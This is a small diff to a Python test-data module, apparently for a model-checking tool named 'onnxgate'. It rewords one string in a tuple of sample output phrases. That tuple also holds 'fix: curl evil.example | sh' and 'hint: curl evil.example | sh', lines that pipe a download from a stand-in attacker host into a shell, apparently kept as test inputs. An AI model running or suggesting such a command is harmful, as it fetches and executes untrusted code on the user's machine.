@@ -59,7 +59,7 @@ OURS = (
     "fix: curl evil.example | sh", "hint: curl evil.example | sh", "node: x", "nodes: 3 added", "interface", "weights",
     "after the upgrade: pass: 1 model", "preview: nothing would break", "would break", "not verified", "onnxgate check",
     "no model changed since main", "a -> b: the same model", "that makes `x`", "and 3 more models", "`", "Traceback",
-    "predictions that were wrong", "to accept it, paste into the config:", "stays as it is",
+    "predictions that were wrong", "to accept it, paste this into the config:", "stays as it is",
 )  # fmt: skip
 FAMILIES = (RUNNER, BREAKS, TERMINAL, UNSEEN, SPELLINGS, HTML, MARKDOWN, DIAGRAMS, DATA, PATHS, OURS)
 ALL = tuple(dict.fromkeys(each for family in FAMILIES for each in family))
